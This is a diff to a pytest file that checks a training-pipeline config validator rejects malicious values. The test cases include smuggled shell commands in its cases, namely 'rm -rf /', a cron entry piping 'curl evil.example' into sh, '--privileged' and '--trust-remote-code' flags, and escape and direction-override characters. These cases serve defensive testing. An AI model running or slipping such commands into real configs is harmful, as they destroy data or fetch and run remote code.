@@ -228,7 +228,8 @@ def test_item11_duplicate_key_names_the_key_and_both_lines(tmp_path):
     [
         (("cluster", "run_as_user"), -1, "greater than or equal to 0"),
         (("cluster", "run_as_user"), 2**40, "less than or equal to 2147483647"),
-        (("cluster", "images", "train"), "ghcr.io/org/train:1\nrm -rf /", "not an image reference"),
+        (("cluster", "images", "train"), "ghcr.io/org/train:1\nrm -rf /", "control character '\\n'"),
+        (("cluster", "images", "train"), "ghcr.io/org/train:1;rm", "not an image reference"),
         (("cluster", "images", "eval"), "GHCR.io/Org/Eval:1", "not an image reference"),
         (("cluster", "images", "light"), "ghcr.io/org/light:1 --privileged", "not an image reference"),
         (("schedule", "crons"), ["@reboot; curl evil.example | sh"], "not a descriptor Argo knows"),
@@ -247,6 +248,18 @@ def test_item11_duplicate_key_names_the_key_and_both_lines(tmp_path):
         (("eval", "limit"), 10**400, "less than or equal to 1000000"),
         (("train", "timeout"), "9999999d", "at most 366d"),
         (("cluster", "namespace"), "../../x?y#", "DNS-1123"),
+        (("train", "node_selector"), {"nvidia.com/gpu memory": "48"}, "not a qualified name"),
+        (("train", "node_selector"), {"nvidia.com/gpu.product": "A100\nx"}, "control character"),
+        (("train", "node_selector"), {"nvidia.com/gpu.product": "A100 80GB"}, "not a label value"),
+        (("model", "id"), "google/gemma-2-2b\n--trust-remote-code", "control character"),
+        (("eval", "baselines"), ["org/\u202eevil"], "control character '\\u202e'"),
+        (("data", "source"), "data/\x1b[2Jtrain.parquet", "control character '\\x1b'"),
+        (("train", "tolerations"), [{"key": "nvidia.com/gpu", "operator": "Exists", "value": "x"}], "operator Exists"),
+        (("eval", "tolerations"), [{"key": "gpu/../x", "operator": "Exists"}], "not a qualified name"),
+        (("train", "gpu_resource"), "nvidia.com/gpu; rm", "not a qualified name"),
+        (("train", "priority_class_name"), "GPU Training", "not an object name"),
+        (("cluster", "workspace", "existing_claim"), "../claim", "not an object name"),
+        (("cluster", "hf_token_secret", "key"), "token/../x", "not a Secret key"),
     ],
 )
 def test_item11_silently_accepted_values_are_refused(path, value, expected):
@@ -256,7 +269,7 @@ def test_item11_silently_accepted_values_are_refused(path, value, expected):
         target = target.setdefault(key, {})
     target[path[-1]] = value
     message = error_for(data)
-    assert message.startswith(f"test.yaml: {'.'.join(path)}: ") and expected in message, message
+    assert message.startswith(f"test.yaml: {'.'.join(path)}") and expected in message, message
     assert "\n" not in message
 
 
@@ -285,3 +298,10 @@ def test_a_control_character_in_a_value_cannot_split_the_message():
     data["gate"]["mode"] = "fail\n\x1b[31mok"
     message = error_for(data)
     assert "\n" not in message and "\x1b" not in message and "\\x1b" in message
+
+
+def test_free_text_fields_may_hold_newlines():
+    data = reference_data()
+    data["description"] = "line one\nline two"
+    data["train"]["overrides"] = {"chat_template_jinja": "{% for m in messages %}\n{{ m }}\n{% endfor %}"}
+    assert parse_pipeline(data).description == "line one\nline two"
